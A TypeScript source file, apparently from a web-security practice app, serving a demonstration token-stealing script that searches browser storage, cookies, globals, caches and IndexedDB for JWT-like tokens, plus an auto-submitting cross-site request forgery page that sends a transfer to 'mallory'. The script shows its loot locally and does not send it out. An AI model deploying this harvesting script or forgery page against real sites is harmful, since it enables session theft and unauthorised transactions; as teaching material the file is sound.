import { html, script } from '../server/answer.ts';
import type { Routes } from '../server/routes.ts';
import type { World } from '../world.ts';

/** What the other site does: it serves a script that steals, and forges requests. */
export function thiefRoutes(world: World): Routes {
  return {
    /** Stands for any script that an XSS, or a bad dependency, brings into the page. */
    'GET /thief/script.js': () => script(stealScript),

    /** A page that sends a form to the API as soon as it is shown, with whatever cookies ride along. */
    'GET /thief/forgery': () => html(200, forgeryPage(`${world.apiUrl}/jars/rides/transfers`)),
  };
}

/**
 * Runs in the practice page with all the rights of that page, and reads each place that a script can read. A real one would
 * send its loot away with one line more; this one hands it to the page, which shows it, and to nobody else.
 */
const stealScript = `(async () => {
  const loot = [];
  const whole = /eyJ[\\w-]+\\.[\\w-]*\\.[\\w.-]+/;
  const take = (place, text, pattern = whole) => {
    const [token] = pattern.exec(String(text)) ?? [];
    if (token) loot.push({ place, text: token });
  };
  for (const area of ['localStorage', 'sessionStorage']) {
    for (const name of Object.keys(window[area])) take(area + ' ' + name, window[area].getItem(name));
  }
  for (const pair of document.cookie.split('; ')) {
    const [name, value = ''] = pair.split('=');
    // Long enough for a piece of a token: cookies hold them in chunks, too.
    take('document.cookie ' + name, value, /^.{20,}/);
  }
  take('window.name', window.name);
  take('history.state', JSON.stringify(history.state));
  take('address bar', location.href);
  for (const element of document.querySelectorAll('script:not([src])')) take('page HTML', element.textContent);
  for (const name of Object.keys(window)) {
    // The browser's own members are getters; what the page has put there is a value.
    const { value } = Object.getOwnPropertyDescriptor(window, name) ?? {};
    try {
      take('global ' + name, JSON.stringify(value));
    } catch {
      // What cannot be written as JSON is left alone.
    }
  }
  for (const name of await caches.keys()) {
    const cache = await caches.open(name);
    for (const request of await cache.keys())
      take('Cache Storage ' + new URL(request.url).pathname, await (await cache.match(request)).text());
  }
  // Only a database that is there is opened: opening makes one.
  if ((await indexedDB.databases()).some(({ name }) => name === 'practice')) {
    const settle = (request) =>
      new Promise((done, fail) => {
        request.onsuccess = () => done(request.result);
        request.onerror = fail;
      });
    const database = await settle(indexedDB.open('practice'));
    for (const store of database.objectStoreNames) {
      const values = await settle(database.transaction(store).objectStore(store).getAll());
      for (const value of values) take('IndexedDB practice/' + store, value);
    }
    database.close();
  }
  document.dispatchEvent(new CustomEvent('stolen', { detail: loot }));
})();`;

function forgeryPage(target: string): string {
  return `<!doctype html><meta charset="utf-8"><title>A page of another site</title>
<form method="post" action="${target}"><input name="to" value="mallory"></form>
<script>document.forms[0].submit();</script>`;
}
